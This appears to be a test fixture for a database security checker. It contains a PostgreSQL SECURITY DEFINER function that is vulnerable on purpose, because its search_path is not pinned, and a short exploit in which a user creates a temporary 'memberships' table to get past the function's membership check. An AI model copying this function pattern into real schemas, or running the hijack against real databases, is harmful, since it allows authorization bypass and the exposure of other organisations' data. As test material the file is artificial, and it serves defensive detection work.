-- Class:    SECURITY DEFINER without pinned search_path
-- Culprit:  public.count_members(uuid)
-- Command:  execute
--
-- Names without a schema, looked up where the caller says: a temporary table of the caller's comes first.

create function public.count_members(org uuid) returns bigint language plpgsql stable security definer as $$
begin
  if not exists (select 1 from memberships m where m.org_id = org and m.user_id = auth.uid()) then
    raise exception 'not allowed' using errcode = '42501';
  end if;
  return (select count(*) from public.memberships m where m.org_id = org);
end
$$;
grant execute on function public.count_members(uuid) to authenticated;

-- @as gina
create temporary table memberships (org_id uuid, user_id uuid);
insert into pg_temp.memberships values (:acme, :gina);
grant select on pg_temp.memberships to public;
select 1 from count_members(:acme) n where n > 2
